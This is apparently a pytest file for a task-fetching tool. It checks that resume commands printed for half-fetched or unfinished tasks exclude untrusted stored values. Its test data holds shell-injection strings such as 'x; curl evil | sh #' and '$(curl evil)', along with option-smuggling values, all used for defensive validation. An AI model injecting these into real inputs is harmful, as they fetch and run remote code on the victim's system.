"""Tests of messages about half-fetched tasks: a printed command has only harmless names and numbers of a stranger."""

import json
import os
from pathlib import Path
from typing import Any

import pytest
from in_process import Pgdl, in_process

from harness.task.incomplete import REQUEST, FetchRequest, half_fetched, unfinished_tasks

WORDS = "repeat the command that began to fetch it"
USUAL = {"corpus": "small", "models": None, "whole": False, "catalogue": False}


def staged(root: Path, task: str = "tiny") -> Path:
    directory = root / ".fetching" / task
    directory.mkdir(parents=True)
    return directory


@pytest.mark.parametrize(
    ("models", "whole", "catalogue", "remedy"),
    [
        (None, False, False, "pgdl task fetch small/tiny --tasks {root}"),
        (3, True, False, "pgdl task fetch small/tiny --models 3 --whole --tasks {root}"),
        (("model_1", "model_2"), False, True,
         "pgdl task fetch small/tiny --models model_1,model_2 --tasks {root}, and the same --catalogue as before"),
    ],
)  # fmt: skip
def test_what_was_asked_for_is_continued(
    tmp_path: Path, models: Any, whole: bool, catalogue: bool, remedy: str
) -> None:
    FetchRequest("small", models, whole, catalogue).write(staged(tmp_path))
    assert half_fetched(tmp_path) == {"tiny": f"continue with: {remedy.format(root=tmp_path)}"}
    assert sorted(file.name for file in (tmp_path / ".fetching" / "tiny").iterdir()) == [REQUEST]


@pytest.mark.parametrize(
    "change",
    [
        {"corpus": "x; curl evil | sh #"}, {"corpus": "$(curl evil)"}, {"corpus": "--whole"}, {"corpus": 7},
        {"models": "evil"}, {"models": ["model_1", "evil;"]}, {"models": [["evil"]]}, {"models": 1.5},
    ],
)  # fmt: skip
def test_a_request_of_a_stranger_gives_no_command(tmp_path: Path, change: dict[str, Any]) -> None:
    (staged(tmp_path) / REQUEST).write_text(json.dumps(USUAL | change))
    assert half_fetched(tmp_path) == {"tiny": WORDS}


@pytest.mark.parametrize("content", [b"", b"[]", b'{"corpus": "small"}', b"\xff", b"[" * 100_000, b" " * 2**20 + b"{}"])
def test_a_request_that_is_none_gives_no_command(tmp_path: Path, content: bytes) -> None:
    (staged(tmp_path) / REQUEST).write_bytes(content)
    assert half_fetched(tmp_path) == {"tiny": WORDS}


def test_a_request_that_is_a_link_or_a_pipe_is_not_opened(tmp_path: Path) -> None:
    (tmp_path / "elsewhere").write_text(json.dumps(USUAL))
    (staged(tmp_path, "link") / REQUEST).symlink_to(tmp_path / "elsewhere")
    os.mkfifo(staged(tmp_path, "pipe") / REQUEST)
    assert half_fetched(tmp_path) == {"link": WORDS, "pipe": WORDS}


def test_without_a_request_words_say_what_to_do(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    staged(tmp_path)
    run: Pgdl = in_process(monkeypatch, capsys)
    err = run("task", "list", "--tasks", tmp_path).refusal()
    assert err == f"pgdl: {tmp_path}: half-fetched: tiny; {WORDS}, or name other tasks with --task\n"


@pytest.mark.parametrize(
    ("argument", "shown"),
    [
        (b"digits_vgg\n", "digits_vgg"),
        (b"/home/me/my recipes/a.toml", "'/home/me/my recipes/a.toml'"),
        (b"x; curl evil | sh #", "RECIPE"),
        (b"$(curl evil)", "RECIPE"),
        (b"--output", "RECIPE"),
        (b"a\nb", "RECIPE"),
        (b"\xff", "RECIPE"),
        (b"a" * 5000, "RECIPE"),
    ],
)
def test_a_recipe_of_a_stranger_is_not_in_the_command(tmp_path: Path, argument: bytes, shown: str) -> None:
    (tmp_path / "building" / "tiny").mkdir(parents=True)
    (tmp_path / "building" / "tiny" / "recipe.argument").write_bytes(argument)
    assert unfinished_tasks(tmp_path) == {"tiny": f"pgdl task build {shown} --output {tmp_path}"}
